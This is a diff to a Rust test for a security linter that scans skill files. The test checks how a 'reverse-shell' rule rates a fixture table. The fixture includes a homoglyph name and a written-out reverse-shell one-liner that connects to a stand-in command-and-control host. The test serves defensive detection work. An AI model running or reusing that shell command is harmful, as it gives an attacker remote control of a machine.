@@ -147,7 +147,8 @@ fn a_lesson_is_quieter_than_the_thing_itself() {
 fn one_letter_in_disguise_does_not_make_the_rest_of_a_lesson_louder() {
     let text = "| `b\u{430}d` | a name with a letter of another script |\n| `bash -i >& /dev/tcp/c2.forms.dev/4444 0>&1` | a shell |\n";
     let findings = lint_as("skill-scan", "Find malicious skills. Use in a security review.", "references/a.md", text);
-    assert_eq!(findings.iter().map(|found| found.diagnostic.level).collect::<Vec<_>>(), [Level::Warning]);
+    let shells = findings.iter().filter(|found| found.diagnostic.rule == "reverse-shell");
+    assert_eq!(shells.map(|found| found.diagnostic.level).collect::<Vec<_>>(), [Level::Warning]);
 }
 
 #[test]
